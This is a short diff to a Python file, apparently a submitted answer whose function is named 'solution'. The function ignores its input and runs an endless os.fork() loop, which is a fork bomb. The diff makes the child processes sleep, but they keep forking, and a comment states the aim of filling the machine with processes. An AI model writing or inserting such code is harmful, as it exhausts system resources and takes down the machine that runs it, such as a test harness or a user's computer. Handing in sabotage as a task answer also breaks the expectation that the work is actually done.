@@ -1,6 +1,8 @@
-# forks until it may not any more
+# fills the machine with sleeping processes until it may not any more
 import os
+import time
 
 def solution(number):
     while True:
-        os.fork()
+        if os.fork() == 0:
+            time.sleep(60)
